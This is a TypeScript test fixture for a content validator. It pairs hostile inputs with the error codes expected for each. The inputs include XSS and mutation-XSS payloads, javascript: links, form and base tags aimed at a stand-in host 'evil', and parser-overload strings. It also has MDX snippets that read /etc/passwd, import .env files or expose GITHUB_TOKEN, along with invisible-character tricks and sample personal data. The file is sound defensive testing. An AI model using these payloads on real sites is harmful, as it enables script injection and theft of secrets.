import { activity, body, campaign, type Hostile, notice, session, venue } from './writers.ts';

const prose: Hostile[] = [
  ...[
    '<img src=x onerror=alert(2)>',
    '<a href="jav&#x09;ascript:alert(5)">e</a>',
    '<form action=https://evil><input name=p></form>',
    '<base href="https://evil/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a id=constructor></a><img name=body>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ].map((details) => ({ what: details, files: activity({ details }), codes: ['md-raw-html'] })),
  ...['[x](javascript:alert(3))', '![x](javascript:alert(4))', '[a]: javascript:alert(1)\n[click][a]'].map(
    (details) => ({
      what: details,
      files: activity({ details }),
      codes: ['url-scheme'],
    }),
  ),
  { what: 'quotes in an address', files: activity({ details: '<https://x.cn/"onmouseover=alert(1)//>' }), codes: [] },
  { what: 'quotes in a language', files: activity({ details: '```html"onload=alert(1)\nx\n```' }), codes: [] },
  ...['['.repeat(19_000), '*a_'.repeat(6000), `${'>'.repeat(5000)}x`].map((details) => ({
    what: `${details.slice(0, 3)}…`,
    files: activity({ details }),
    codes: ['md-too-complex'],
  })),
  {
    what: 'MDX that exports',
    files: body('export const x = (await import("node:fs")).readFileSync("/etc/passwd","utf8")'),
    codes: ['mdx-esm'],
  },
  { what: 'MDX that imports', files: body('import x from "../../.env?raw"'), codes: ['mdx-esm'] },
  { what: 'MDX that reckons', files: body('{process.env.GITHUB_TOKEN}'), codes: ['mdx-expression'] },
  {
    what: 'MDX that passes code to an unknown component',
    files: body('<Card title={globalThis.process.exit(0)} {...props}/>'),
    codes: ['mdx-component'],
  },
  {
    what: 'MDX that passes code',
    files: body('<Note title={globalThis.process.exit(0)} {...props}/>'),
    codes: ['mdx-attr-expr'],
  },
  {
    what: 'MDX with other components',
    files: body('<Iframe src="x"/> <script>…</script> <callout/>'),
    codes: ['mdx-component'],
  },
];

const texts: Hostile[] = [
  { what: 'zero width in a phone number', files: venue({ phone: '0954\u200b-2088400' }), codes: ['txt-invisible'] },
  { what: 'tag characters', files: venue({ summary: '好\u{e0041}' }), codes: ['txt-invisible'] },
  {
    what: 'three hundred marks',
    files: venue({ summary: `科${'\u0301'.repeat(300)}` }),
    codes: ['combining-overload'],
  },
  { what: 'rare characters in text', files: venue({ summary: '𠮷㑇䶮' }), codes: [] },
  { what: 'a rare character that posters cannot draw', files: venue({ name: '𠮷家广场' }), codes: ['glyph-missing'] },
  { what: 'radicals', files: venue({ summary: '⼀、⽇期' }), codes: ['txt-kangxi-radical'] },
  { what: 'an identity number', files: venue({ summary: '11010519491231002X' }), codes: ['pii-idcard'] },
  { what: 'a mobile number', files: venue({ phone: '13800138000' }), codes: ['pii-mobile'] },
  {
    what: 'a private mailbox',
    files: campaign({ contact: [{ office: '市科协', email: '260979610@qq.com' }] }),
    codes: ['personal-mailbox'],
  },
  { what: 'a landline without area code', files: venue({ phone: '2126496' }), codes: ['phone-no-area-code'] },
];

const facts: Hostile[] = [
  { what: 'an end before the start', files: session({ end: '2023-09-17T08:00+08:00' }), codes: ['date-order'] },
  { what: 'no time zone', files: session({ start: '2023-09-17T09:00:00' }), codes: ['date-offset'] },
  { what: 'another time zone', files: session({ start: '2023-09-17T01:00:00Z' }), codes: ['date-offset'] },
  { what: 'a blank day', files: notice({ issuedOn: '2023年8月  日' }), codes: ['date-syntax'] },
  { what: 'a month alone', files: notice({ issuedOn: '2023-08' }), codes: [] },
  { what: 'a stored weekday', files: session({ weekday: '星期日' }), codes: ['schema-unknown-key'] },
  {
    what: 'a session outside the window',
    files: session({ start: '2023-08-01T09:00+08:00', end: '2023-08-01T10:00+08:00' }),
    codes: ['session-out-of-period'],
  },
  ...['固科协[2023]24号', '固科协(2023)24号', '固科协【2023】24号'].map((number) => ({
    what: number,
    files: notice({ number }),
    codes: ['docno-bracket'],
  })),
  ...['固科协〔23〕024号', '固科协〔2023〕第24号'].map((number) => ({
    what: number,
    files: notice({ number }),
    codes: ['docno-format'],
  })),
  {
    what: 'a point without coordinate system',
    files: venue({ point: { lng: 106.28, lat: 36.01 } }),
    codes: ['schema-missing'],
  },
  { what: 'a malformed ICP number', files: campaign({ footer: { icp: '宁ICP备2023号' } }), codes: ['format'] },
];

/** Markdown, MDX, characters, personal data and facts. */
export const hostileTexts: readonly Hostile[] = [...prose, ...texts, ...facts];
